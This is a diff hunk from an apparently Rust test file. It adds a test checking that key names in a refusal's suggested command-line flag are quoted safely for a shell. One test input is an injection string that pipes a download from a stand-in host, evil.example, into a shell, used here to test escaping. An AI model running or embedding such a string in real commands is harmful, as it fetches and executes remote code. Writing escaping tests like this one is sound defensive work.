@@ -75,6 +75,21 @@ fn a_protected_key_goes_only_by_its_name() {
 }
 
 #[test]
+fn a_name_in_the_command_of_a_refusal_is_quoted_for_a_shell() {
+    for (name, flag) in [
+        ("x; curl evil.example|sh", "--allow-protected 'x; curl evil.example|sh'"),
+        ("it's", r"--allow-protected 'it'\''s'"),
+        ("-y", "--allow-protected=-y"),
+    ] {
+        let mut plan = plan("a=B! c=C", "a=A#1 c=C#2", "a=A#1 c=C#2");
+        for action in &mut plan.actions {
+            action.name = KeyName::new(name).unwrap();
+        }
+        trips(&plan, &[flag]);
+    }
+}
+
+#[test]
 fn the_primary_goes_only_with_another_in_its_place() {
     let state = "a=A#1 b=B#2 c=C#3";
     trips(&plan("b=B c=C", state, "a=A#1* b=B#2 c=C#3"), &["--allow-primary-loss"]);
